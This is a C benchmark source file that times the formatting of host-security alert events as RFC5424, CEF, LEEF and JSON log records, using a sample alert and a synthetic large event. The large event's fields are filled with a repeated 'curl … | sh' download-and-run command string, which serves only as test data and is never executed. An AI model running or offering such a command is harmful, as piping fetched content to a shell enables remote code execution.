/*
 * bench_format: nanoseconds per event for each format, on the official
 * example event and on a ~20 KB event (long strings with characters to
 * escape, a large nested extend_info), plus the page parse.
 *
 * usage: bench_format [iterations]   (default 100000)
 */
#include "autoconf.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cjson/cJSON.h>

#include "config.h"
#include "event.h"
#include "format.h"
#include "../tests/format_fixture.h"
#include "util.h"

static const char example[] =
"{\"total_num\":1,\"data_list\":[{\"attack_phase\":\"exploit\","
"\"attack_tag\":\"abnormal_behavior\",\"event_class_id\":\"lgin_1002\","
"\"event_id\":\"d8a12cf7-6a43-4cd6-92b4-aabf1e917\",\"event_name\":"
"\"different locations\",\"event_type\":4004,\"forensic_info\":{\"country\":"
"\"China\",\"city\":\"Lanzhou\",\"ip\":\"127.0.0.1\",\"user\":\"zhangsan\","
"\"sub_division\":\"Gansu\",\"city_id\":3110},\"handle_status\":\"unhandled\","
"\"host_name\":\"xxx\",\"occur_time\":1661593036627,\"operate_accept_list\":"
"[\"ignore\"],\"operate_detail_list\":[{\"agent_id\":\"c9bed5397db449ebdfba15"
"e85fcfc36accee125c68954daf5cab0528bab59bd8\",\"file_hash\":\"e8b50f0b91e3dc"
"e0885ccc5902846b139d28108a0a7976c9b8d43154c5dbc44d\",\"file_path\":"
"\"/usr/test\",\"process_pid\":3123,\"file_attr\":33261,\"keyword\":"
"\"file_path=/usr/test\",\"login_ip\":\"127.0.0.1\",\"private_ip\":"
"\"127.0.0.2\",\"login_user_name\":\"root\",\"is_parent\":false}],"
"\"private_ip\":\"127.0.0.1\",\"resource_info\":{\"enterprise_project_id\":"
"\"0\",\"os_type\":\"Linux\",\"os_version\":\"2.5\",\"vm_uuid\":\"71a15ecc\","
"\"container_status\":\"running / terminated\"},\"severity\":\"Medium\","
"\"extend_info\":\"\",\"os_type\":\"Linux\",\"agent_status\":\"online\","
"\"asset_value\":\"common\",\"protect_status\":\"opened\",\"host_status\":"
"\"ACTIVE\",\"event_details\":\"file_path:/root/test\",\"user_info_list\":"
"[{\"login_ip\":\"\",\"service_port\":22,\"service_type\":\"ssh\","
"\"user_name\":\"zhangsan\",\"login_mode\":0,\"login_last_time\":1661593024,"
"\"login_fail_count\":0}],\"process_info_list\":[{\"process_path\":"
"\"/root/test\",\"process_name\":\"test\",\"process_cmdline\":\"/bin/bash\","
"\"process_hash\":\"e8b50f0b91e3dce0885ccc5902846b139d28108a0a7976c9b8d431"
"54c5dbc44d\",\"process_username\":\"root\",\"process_pid\":372612,"
"\"process_uid\":10000}],\"description\":\"\",\"event_abstract\":\"\","
"\"tag_list\":[\"Hot Event\"]}]}";

static double
now_ns(void)
{
	struct timespec	 ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec * 1e9 + (double)ts.tv_nsec;
}

static struct hss_event *
big_event(void)
{
	struct hss_event	*ev;
	struct buf		 s, err;
	cJSON			*o, *x, *a;
	int			 i;

	buf_init(&s);
	buf_init(&err);
	while (s.len < 3000)
		buf_adds(&s,
		    "sh -c \"curl http://x/a=b|sh\" \\ ]\t\xe4\xb8\xad ");
	o = cJSON_CreateObject();
	cJSON_AddStringToObject(o, "event_id", "bench-big-0001");
	cJSON_AddNumberToObject(o, "occur_time", 1661593036627.0);
	cJSON_AddNumberToObject(o, "event_type", 3015);
	cJSON_AddStringToObject(o, "event_class_id", "cmd_3015");
	cJSON_AddStringToObject(o, "event_name", s.data);
	cJSON_AddStringToObject(o, "severity", "High");
	cJSON_AddStringToObject(o, "host_name", "web01.example.internal");
	cJSON_AddStringToObject(o, "private_ip", "10.1.2.3");
	cJSON_AddStringToObject(o, "description", s.data);
	a = cJSON_AddArrayToObject(o, "process_info_list");
	x = cJSON_CreateObject();
	cJSON_AddStringToObject(x, "process_name", "sh");
	cJSON_AddStringToObject(x, "process_cmdline", s.data);
	cJSON_AddNumberToObject(x, "process_pid", 4242);
	cJSON_AddItemToArray(a, x);
	x = cJSON_AddObjectToObject(o, "extend_info");
	for (i = 0; i < 100; i++) {
		char	 k[16];

		snprintf(k, sizeof(k), "k%d", i);
		cJSON_AddStringToObject(x, k, "value with \"quotes\" and \\");
		cJSON_AddNumberToObject(x, k, i * 1000.5);
	}
	cJSON_AddStringToObject(o, "event_details", s.data);
	ev = event_from_json(o, &err);
	buf_free(&s);
	buf_free(&err);
	return ev;
}

int
main(int argc, char **argv)
{
	static const struct {
		const char		*name;
		enum output_format	 fmt;
	} fmts[] = {
		{ "rfc5424", FORMAT_RFC5424 }, { "cef", FORMAT_CEF },
		{ "leef", FORMAT_LEEF }, { "json", FORMAT_JSON },
	};
	struct output_config	 oc;
	struct format_ctx	 ctx;
	struct event_page	 pg;
	struct hss_event	*evs[2];
	struct buf		 b, err;
	const char		*errstr;
	const char		*names[2] = { "example", "20KB" };
	double			 t0, t1;
	int64_t			 iters = 100000;
	size_t			 i, e, n, len[2][4];
	int			 trunc;

	if (argc > 1 && parse_int64(argv[1], 1, 100000000, &iters,
	    &errstr) == -1) {
		fprintf(stderr, "bench_format: iterations %s\n", errstr);
		return 2;
	}
	memset(&pg, 0, sizeof(pg));
	format_fixture(&oc, &ctx);
	buf_init(&b);
	buf_init(&err);

	t0 = now_ns();
	for (i = 0; i < (size_t)iters / 10; i++)
		if (event_page_parse(example, sizeof(example) - 1, &pg,
		    &err) == -1)
			return 1;
	t1 = now_ns();
	printf("%-8s %-8s %10.0f ns/page (1 event)\n", "parse", "example",
	    (t1 - t0) / (double)(iters / 10));
	evs[0] = pg.events[0];
	pg.nevents = 0;
	event_page_clear(&pg);
	evs[1] = big_event();

	for (e = 0; e < 2; e++) {
		for (n = 0; n < HSS_ARRAY_LEN(fmts); n++) {
			oc.format = fmts[n].fmt;
			buf_reset(&b);
			format_event(&b, evs[e], &ctx, &trunc);
			len[e][n] = b.len;
			t0 = now_ns();
			for (i = 0; i < (size_t)iters; i++) {
				buf_reset(&b);
				format_event(&b, evs[e], &ctx, &trunc);
			}
			t1 = now_ns();
			printf("%-8s %-8s %10.0f ns/event  %6zu bytes%s\n",
			    fmts[n].name, names[e], (t1 - t0) / (double)iters,
			    len[e][n], trunc ? " (truncated)" : "");
		}
	}
	hss_event_free(evs[0]);
	hss_event_free(evs[1]);
	buf_free(&b);
	buf_free(&err);
	return 0;
}
